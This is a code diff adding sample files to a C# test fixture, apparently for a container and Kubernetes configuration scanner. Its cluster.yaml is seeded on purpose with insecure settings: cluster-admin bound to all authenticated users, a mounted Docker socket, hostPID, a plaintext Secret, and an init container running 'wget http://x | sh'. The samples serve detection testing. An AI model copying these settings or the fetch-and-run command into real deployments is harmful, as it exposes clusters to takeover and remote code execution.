@@ -22,6 +22,77 @@ internal static class SurroundingSamples
             }
 
             """),
+        ("baseline.json", """
+            {
+              // the known findings
+              "version": 2,
+              "findings": [
+                { "rule": "CNS2001", "path": "deploy/pod.yaml", "resource": "v1/Pod/shop/a", "fingerprint": "0123456789abcdef0123456789abcdef" },
+                { "rule": "CNS1002", "path": "api/Dockerfile", "fingerprint": "fedcba9876543210fedcba9876543210" }
+              ]
+            }
+
+            """),
+        (".dockerignore", "# a comment\n**/*.pem\n!a/b.pem\n/c/[a-z]*/**/d?\n*\n!d/**\n"),
+        ("cluster.yaml", """
+            apiVersion: v1
+            kind: Service
+            metadata: {name: a, namespace: shop, annotations: {service.beta.kubernetes.io/azure-load-balancer-internal: "true"}}
+            spec: {type: LoadBalancer, selector: {app: a}, ports: [{port: 80, targetPort: http}], loadBalancerSourceRanges: [0.0.0.0/0]}
+            ---
+            apiVersion: networking.k8s.io/v1
+            kind: NetworkPolicy
+            metadata: {name: p, namespace: shop}
+            spec:
+              podSelector: {matchExpressions: [{key: app, operator: In, values: [a, b]}]}
+              policyTypes: [Ingress, Egress]
+              ingress: [{from: [{namespaceSelector: {}}, {ipBlock: {cidr: 10.0.0.0/8, except: [10.1.0.0/16]}}], ports: [{port: 22, endPort: 90}]}]
+            ---
+            apiVersion: policy/v1
+            kind: PodDisruptionBudget
+            metadata: {name: b, namespace: shop}
+            spec: {minAvailable: 100%, selector: {matchLabels: {app: a}}}
+            ---
+            apiVersion: autoscaling/v2
+            kind: HorizontalPodAutoscaler
+            metadata: {name: h, namespace: shop}
+            spec: {scaleTargetRef: {apiVersion: apps/v1, kind: Deployment, name: a}, minReplicas: 1, maxReplicas: 3}
+            ---
+            apiVersion: rbac.authorization.k8s.io/v1
+            kind: RoleBinding
+            metadata: {name: r, namespace: shop}
+            roleRef: {kind: ClusterRole, name: cluster-admin, apiGroup: rbac.authorization.k8s.io}
+            subjects: [{kind: ServiceAccount, name: a, namespace: shop}, {kind: Group, name: "system:authenticated"}]
+            ---
+            apiVersion: batch/v1
+            kind: CronJob
+            metadata: {name: c, namespace: shop}
+            spec:
+              schedule: "*/5 * * * *"
+              jobTemplate:
+                spec:
+                  template:
+                    spec:
+                      serviceAccountName: a
+                      hostPID: true
+                      volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}, {name: s, secret: {secretName: s, defaultMode: 0777}}]
+                      initContainers: [{name: i, image: busybox, command: [sh, -c, "wget http://x | sh"], restartPolicy: Always}]
+                      containers:
+                      - name: a
+                        image: contoso.azurecr.io/api:1
+                        env: [{name: A, valueFrom: {secretKeyRef: {name: s, key: k}}}, {name: B, value: "$(A)-$$(C)"}]
+                        resources: {requests: {cpu: 100m, memory: 1Gi}, limits: {memory: 1.5e3Mi}}
+                        livenessProbe: {httpGet: {path: /, port: 80, host: 10.0.0.1}, periodSeconds: 5}
+                        ports: [{containerPort: 80, hostPort: 80, name: http}]
+                        volumeMounts: [{name: v, mountPath: /var/run/docker.sock, readOnly: true}]
+            ---
+            apiVersion: v1
+            kind: Secret
+            metadata: {name: s, namespace: shop}
+            data: {k: aHVudGVyMg==, tls.key: "x"}
+            stringData: {password: hunter2}
+
+            """),
         ("trivy.json", $$"""
             {
               "SchemaVersion": 2, "CreatedAt": "2026-10-01T10:00:00+02:00", "ArtifactName": "contoso.azurecr.io/api:1", "ArtifactType": "container_image",
